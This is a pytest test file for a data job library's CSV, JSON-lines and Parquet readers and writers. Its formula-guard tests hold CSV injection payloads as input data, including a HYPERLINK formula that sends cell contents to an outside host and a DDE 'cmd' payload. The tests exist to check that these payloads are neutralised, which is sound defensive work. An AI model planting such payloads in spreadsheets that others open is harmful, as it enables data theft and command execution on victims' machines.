"""CSV, JSON lines and Parquet: what is read, from where, and what is said of what cannot be read."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelhub.jobs.formats import FileRefused, format_of, open_reader
from modelhub.jobs.formats import rows as rows_module
from modelhub.jobs.formats.csv_rows import CsvWriter, guarded
from modelhub.jobs.formats.parquet_rows import PartWriter, make_parquet
from modelhub.jobs.formats.rows import Column, Row
from modelhub.jobs.options import Options


def read(data: bytes, kind: str = "csv", **options: Any) -> list[Row]:
    return list(open_reader(io.BytesIO(data), kind, Options(**options)).rows())


def fields(data: bytes, kind: str = "csv", **options: Any) -> list[dict[str, Any]]:
    return [row.fields for row in read(data, kind, **options)]


def parquet(table: pa.Table, **how: Any) -> bytes:
    written = io.BytesIO()
    pq.write_table(table, written, **how)
    return written.getvalue()


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("a.CSV", "csv"),
        ("x/a.jsonl", "jsonl"),
        ("a.ndjson", "jsonl"),
        ("a.pq", "parquet"),
        ("a.txt", None),
        ("-", None),
    ],
)
def test_a_name_tells_the_format(name: str, kind: str | None) -> None:
    assert format_of(name) == kind


class TestCsv:
    def test_quotes_line_ends_and_a_byte_order_mark(self) -> None:
        data = b'\xef\xbb\xbfid,text\r\n1,"a ""b"", c\nd"\r\n\r\n2,\r\n'
        found = read(data)
        assert [row.fields for row in found] == [{"id": "1", "text": 'a "b", c\nd'}, {"id": "2", "text": ""}]
        assert [row.place.line for row in found] == [2, 5]
        assert not any(row.problem for row in found)

    def test_another_delimiter_and_no_header(self) -> None:
        assert fields(b"a;b\n1;2\n", delimiter=";") == [{"a": "1", "b": "2"}]
        assert fields(b"x,y\nz,w\n", header=False) == [{"1": "x", "2": "y"}, {"1": "z", "2": "w"}]

    def test_a_file_without_a_header_is_read_again_from_its_beginning(self) -> None:
        reader = open_reader(io.BytesIO(b"x\ny\n"), "csv", Options(header=False))
        assert [row.fields["1"] for row in reader.rows()] == ["x", "y"]
        assert [row.fields["1"] for row in reader.rows()] == ["x", "y"]

    def test_a_ragged_row_is_a_problem_of_its_own(self) -> None:
        found = read(b"a,b\n1\n1,2,3\n1,2\n")
        assert [row.problem for row in found] == [
            "Line 2 has 1 fields and the header names 2.",
            "Line 3 has 3 fields and the header names 2.",
            "",
        ]
        assert [row.fields for row in found] == [{"a": "1", "b": ""}, {"a": "1", "b": "2"}, {"a": "1", "b": "2"}]

    def test_bytes_that_are_no_utf_8_are_a_problem_of_their_row(self) -> None:
        found = read(b"a\nok\nb\xe4d\nok\n")
        assert [row.problem for row in found] == ["", "Line 3 is no UTF-8 (byte 0xe4 at 2).", ""]
        assert found[1].fields == {"a": "b\N{REPLACEMENT CHARACTER}d"}

    def test_a_wrongly_quoted_row_is_a_problem_of_its_own(self) -> None:
        found = read(b'a\n"x"y\nok\n')
        assert found[0].problem.startswith("Line 2 is no CSV: ")
        assert found[1].fields == {"a": "ok"}

    @pytest.mark.parametrize(
        ("data", "told"),
        [
            (b"", "The file is empty"),
            (b"\n\n", "The file is empty"),
            (b"\xef\xbb\xbf", "The file is empty"),
            (b"a,b,a\n1,2,3\n", 'Line 1 names the column "a" more than once'),
            (b"\xff\n1\n", "Line 1 is no UTF-8"),
            (b'a\nok\n"never\nclosed\n', "the row that begins in line 3 a quote is never closed"),
        ],
        ids=["empty", "blank", "mark", "twice", "header", "unclosed"],
    )
    def test_a_file_that_cannot_be_read_is_refused_with_its_line(self, data: bytes, told: str) -> None:
        with pytest.raises(FileRefused) as refused:
            read(data)
        assert told in refused.value.message

    def test_a_huge_field_is_refused_with_its_line_and_not_read(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(rows_module, "MAX_LINE_BYTES", 1000)
        source = io.BytesIO(b"a\nok\n" + b"x" * 5000)
        reader = open_reader(source, "csv", Options())
        with pytest.raises(FileRefused, match="Line 3 has more than"):
            list(reader.rows())
        assert source.tell() <= 5 + 1001

    def test_a_header_alone_is_a_file_without_rows(self) -> None:
        assert read(b"a,b\n") == []

    @given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=2, max_size=2), max_size=12))
    def test_what_csv_writes_is_read_back_from_any_row_on(self, values: list[list[str]]) -> None:
        written = io.StringIO(newline="")
        csv.writer(written, quoting=csv.QUOTE_ALL).writerows([["a", "b"], *values])
        reader = open_reader(io.BytesIO(written.getvalue().encode()), "csv", Options())
        found = list(reader.rows())
        assert [[row.fields["a"], row.fields["b"]] for row in found] == values
        for index, row in enumerate(found):
            left = [(one.place, one.fields) for one in reader.rows(row.end)]
            assert left == [(one.place, one.fields) for one in found[index + 1 :]]


class TestJsonLines:
    def test_objects_and_plain_values(self) -> None:
        found = read(b'{"id": 1, "text": "a"}\n\n"b"\n[1, 2]\n', "jsonl")
        assert [row.fields for row in found] == [{"id": 1, "text": "a"}, {"input": "b"}, {"input": [1, 2]}]
        assert [row.is_plain for row in found] == [False, True, True]
        assert [row.place.line for row in found] == [1, 3, 4]

    def test_a_line_that_is_no_json_is_a_problem_of_its_own(self) -> None:
        found = read(b'{"a": 1\n"\xff"\n"ok"', "jsonl")
        assert [row.problem[:17] for row in found] == ["Line 1 is no JSON", "Line 2 is no JSON", ""]

    def test_an_empty_file_is_refused(self) -> None:
        with pytest.raises(FileRefused, match="The file is empty"):
            read(b"", "jsonl")

    @given(
        st.lists(st.one_of(st.text(st.characters(codec="utf-8")), st.dictionaries(st.text("ab"), st.integers(0, 9))))
    )
    def test_it_goes_on_behind_any_row(self, values: list[Any]) -> None:
        data = "".join(f"{json.dumps(value, ensure_ascii=False)}\n" for value in values).encode()
        if not data:
            return
        reader = open_reader(io.BytesIO(data), "jsonl", Options())
        found = list(reader.rows())
        assert [row.fields["input"] if row.is_plain else row.fields for row in found] == values
        for index, row in enumerate(found):
            assert [one.fields for one in reader.rows(row.end)] == [one.fields for one in found[index + 1 :]]


class TestParquet:
    def test_rows_come_from_any_row_on_and_skip_whole_groups(self) -> None:
        table = pa.table({"id": list(range(2500)), "text": [f"t{number}" for number in range(2500)]})
        reader = open_reader(io.BytesIO(parquet(table, row_group_size=700)), "parquet", Options())
        found = list(reader.rows())
        assert [row.fields["id"] for row in found] == list(range(2500))
        assert reader.size == 2500
        for index in (0, 699, 700, 1024, 2498, 2499):
            assert [row.fields["id"] for row in reader.rows(found[index].end)] == list(range(index + 1, 2500))

    @pytest.mark.parametrize("data", [b"", b"PAR1 no, it is not PAR1", b"a,b\n1,2\n"])
    def test_what_is_none_is_refused(self, data: bytes) -> None:
        with pytest.raises(FileRefused, match="The file is no Parquet file"):
            read(data, "parquet")

    def test_damage_within_is_refused_with_the_row(self) -> None:
        whole = bytearray(
            parquet(pa.table({"a": [f"{number:050d}" for number in range(20_000)]}), compression="snappy")
        )
        whole[2000:9000] = bytes(7000)
        with pytest.raises(FileRefused, match="cannot be read behind row"):
            read(bytes(whole), "parquet")

    def test_a_result_keeps_the_types_of_its_input(self, tmp_path: Any) -> None:
        moments = pa.array([1, 2, None], pa.timestamp("ns", "UTC"))  # nanoseconds: Python has no type for them
        table = pa.table(
            {
                "at": moments,
                "small": pa.array([1, 2, 3], pa.int8()),
                "kind": pa.array(["x", "y", "x"]).dictionary_encode(),
                "list": [[1, 2], [], None],
                "day": [datetime(2026, 1, 1, tzinfo=UTC)] * 3,
            }
        )
        reader = open_reader(io.BytesIO(parquet(table)), "parquet", Options())
        part = tmp_path / "part"
        with part.open("wb") as target:
            own = list(reader.columns or ())
            writer = PartWriter(target.write, reader, own, [Column("output", "number")], is_new=True)
            found = list(reader.rows())
            writer.write(found[:2], [{"output": 0.5}, {}])
            writer.flush()
            writer.write(found[2:], [{"output": 1.5}])
            writer.flush()
        with (tmp_path / "whole").open("wb") as target:
            make_parquet(part, target)
        result = pq.read_table(tmp_path / "whole")
        assert result.column("output").to_pylist() == [0.5, None, 1.5]
        for name in ("at", "small", "list", "day"):
            assert result.column(name).equals(table.column(name)), name
        assert result.column("kind").to_pylist() == ["x", "y", "x"]


class TestFormulas:
    """What a spreadsheet would run when somebody opens the result."""

    @pytest.mark.parametrize(
        "text",
        [
            '=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-",
            "\uff1d1+1", "- item", "-0.5 degrees", "+49 30 1234", "'=1", "-inf", "--1", "-1e", "1-\uff11"[1:],
        ],
    )  # fmt: skip
    def test_texts_get_a_quote_that_can_be_taken_away_again(self, text: str) -> None:
        assert guarded(text) == f"'{text}"

    @pytest.mark.parametrize(
        "value", ["-0.5", "+1", "-1e-07", "-.5", "5", "", "a=b", "'", "it's", "x@y", " plain", -0.5, -3, 1e-7, None]
    )
    def test_numbers_and_other_texts_stay_as_they_are(self, value: Any) -> None:
        assert guarded(value) is value

    @given(st.text(st.sampled_from("'=-+@1.e\t a"), max_size=6))
    def test_no_text_that_would_be_run_is_left_and_none_is_lost(self, text: str) -> None:
        written = guarded(text)
        if written == text:
            assert text[:1] not in tuple("=@\t") or not text
            if text[:1] in tuple("+-"):
                float(text)
        else:
            assert written[1:] == text

    def test_the_writer_guards_names_and_fields_of_both_kinds_and_can_be_told_not_to(self) -> None:
        rows = list(
            open_reader(io.BytesIO(b'{"=id": "=1+1", "low": -0.5, "text": "-0.5"}\n'), "jsonl", Options()).rows()
        )
        added = [{"label": "@label", "score": -0.25, "scores": {"=a": -1.0}}]
        columns = ["=id", "low", "text", "label", "score", "scores"]
        for guards, quote in ((True, "'"), (False, "")):
            kept = io.BytesIO()
            CsvWriter(kept.write, columns, ",", is_new=True, guards=guards).write(rows, added)
            head, body = csv.reader(io.StringIO(kept.getvalue().decode(), newline=""))
            assert head == [f"{quote}=id", *columns[1:]]
            assert body == [f"{quote}=1+1", "-0.5", "-0.5", f"{quote}@label", "-0.25", '{"=a":-1.0}']
